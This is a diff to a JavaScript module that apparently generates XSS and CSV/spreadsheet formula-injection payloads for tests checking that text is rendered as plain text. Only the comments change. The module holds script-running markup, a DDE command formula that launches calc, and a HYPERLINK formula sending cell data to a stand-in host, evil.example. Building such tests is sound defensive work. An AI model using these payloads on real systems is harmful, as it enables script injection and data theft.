@@ -1,7 +1,7 @@
 const RUNS = 'alert(1)';
 const ELSEWHERE = 'https://evil.example';
 
-/** What leads out of where a text may stand: an attribute, an element that holds text, a comment, a script. */
+/** What breaks out of the context of a text: an attribute, a text element, a comment, a script. */
 const exits = [
   '',
   '">',
@@ -77,7 +77,7 @@ const templates = [
   `<form action="javascript:${RUNS}"><button autofocus>`,
 ];
 
-/** What a spreadsheet would compute. */
+/** Texts that a spreadsheet would evaluate. */
 export const formulas = [
   "=cmd|' /C calc'!A0",
   `=HYPERLINK("${ELSEWHERE}?"&A1,"open")`,
@@ -91,7 +91,7 @@ export const formulas = [
   '=1+1","=1+1',
 ];
 
-/** Everything that must be shown as the text that it is. */
+/** Everything that must be shown as plain text. */
 export const payloads = [
   ...exits.flatMap((exit) => elements.map((element) => exit + element)),
   ...attributes,
